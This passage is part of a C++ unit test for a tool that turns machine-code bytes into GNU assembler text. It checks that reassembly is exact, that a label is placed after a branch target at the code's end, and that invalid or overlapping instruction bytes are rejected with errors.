    REQUIRE_MESSAGE(body.ok(), (body.ok() ? "" : body.error().message));
    CHECK_MESSAGE(body->text.find(c.pin) != std::string::npos, body->text);
    CHECK(body->pinned == 1);
    std::string error;
    const Bytes got = assemble_text(dir, "pin", "\t.text\n" + body->text, false, &error);
    REQUIRE_MESSAGE(error.empty(), error);
    CHECK_MESSAGE(got == code.bytes, first_difference(got, code.bytes) << "\n" << body->text);
    // And without the pin GNU as really picks the other encoding.
    std::string bare = body->text;
    bare.erase(bare.find(c.pin), std::strlen(c.pin) + 1);
    if (c.needed) CHECK(assemble_text(dir, "bare", "\t.text\n" + bare, false, &error) != code.bytes);
  }
  // A branch to the very end of the code gets its label after the last instruction.
  AnnotatedCode to_end;
  to_end.bytes = {0x48, 0x85, 0xD2, 0x74, 0x01, 0xC3};  // test %rdx, %rdx; jz end; ret
  auto end_body = asm_body(to_end, flavor("plain"));
  REQUIRE(end_body.ok());
  CHECK(end_body->text.find("\tjz\t.Lx6\n") != std::string::npos);
  CHECK(end_body->text.size() > 6);
  CHECK(end_body->text.compare(end_body->text.size() - 6, 6, ".Lx6:\n") == 0);
  std::string end_error;
  CHECK(assemble_text(dir, "end", "\t.text\n" + end_body->text, false, &end_error) == to_end.bytes);
  // Code the writer cannot follow is refused, not guessed at.
  AnnotatedCode bad;
  bad.bytes = {0x0F, 0xFF};  // 0f ff: no such instruction (UD0 needs a ModRM byte)
  CHECK(asm_body(bad, flavor("plain")).error().code == ErrorCode::kInvalidArgument);
  bad.bytes = {0xEB, 0x01, 0x48, 0x89, 0xF8, 0xC3};  // jmp into the middle of mov %rdi, %rax
  auto r = asm_body(bad, flavor("plain"));
  REQUIRE_FALSE(r.ok());
  CHECK(r.error().message.find("inside an instruction") != std::string::npos);
}
